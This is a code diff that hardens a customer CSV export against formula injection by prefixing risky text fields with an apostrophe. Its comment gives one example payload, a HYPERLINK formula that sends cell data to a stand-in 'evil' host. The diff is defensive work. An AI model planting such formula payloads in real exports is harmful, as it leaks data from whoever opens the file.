@@ -83,6 +83,16 @@ export interface RowLabels {
   churn(band: "low" | "medium" | "high"): string;
 }
 
+/**
+ * CSV formula injection (OWASP): a spreadsheet runs a cell that starts with = + - @ (or a tab or
+ * carriage return before one) as a formula, e.g. a first name `=HYPERLINK("http://evil/?"&A1)`.
+ * Text that came from customers or the platform gets a leading apostrophe then, so it is shown as
+ * text. Our own numbers, dates and labels are never guarded (a refund total "-12,50" stays a number).
+ */
+export function guardFormula(value: string): string {
+  return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
+}
+
 const iso = (d: Date | null) => (d ? d.toISOString() : "");
 const day = (d: Date | null) => (d ? d.toISOString().slice(0, 10) : "");
 
@@ -91,21 +101,22 @@ export function rowValues(row: CustomerExportRow, currency: string, format: CsvF
   const money = (m: bigint | null) => (m === null ? "" : minorToDecimal(m, currency, format.decimal));
   const bool = (b: boolean) => (b ? labels.yes : labels.no);
   const num = (n: number | null) => (n === null ? "" : String(n));
+  const text = (v: string | null) => guardFormula(v ?? "");
   const values: Record<ExportColumn, string> = {
     id: String(row.id),
-    platformId: row.platformId,
-    firstName: row.firstName ?? "",
-    lastName: row.lastName ?? "",
-    email: row.email ?? "",
-    phone: row.phone ?? "",
-    taxId: row.taxId ?? "",
+    platformId: text(row.platformId),
+    firstName: text(row.firstName),
+    lastName: text(row.lastName),
+    email: text(row.email),
+    phone: text(row.phone),
+    taxId: text(row.taxId),
     birthDate: day(row.birthDate),
-    gender: row.gender ?? "",
-    locale: row.locale ?? "",
-    city: row.city ?? "",
-    province: row.province ?? "",
-    zip: row.zip ?? "",
-    country: row.country ?? "",
+    gender: text(row.gender),
+    locale: text(row.locale),
+    city: text(row.city),
+    province: text(row.province),
+    zip: text(row.zip),
+    country: text(row.country),
     acceptsEmailMarketing: bool(row.acceptsEmailMarketing),
     acceptsSmsMarketing: bool(row.acceptsSmsMarketing),
     consentUpdatedAt: iso(row.consentUpdatedAt),
@@ -123,7 +134,7 @@ export function rowValues(row: CustomerExportRow, currency: string, format: CsvF
     predictedClv: money(row.predictedClvMinor),
     churnRisk: row.churnRisk === null ? "" : row.churnRisk.toFixed(4).replace(".", format.decimal),
     churnBand: row.churnRisk === null ? "" : labels.churn(churnBand(row.churnRisk)),
-    tags: row.tags.join(", "),
+    tags: text(row.tags.join(", ")),
     createdAt: iso(row.platformCreatedAt),
   };
   return EXPORT_COLUMNS.map((c) => values[c]);
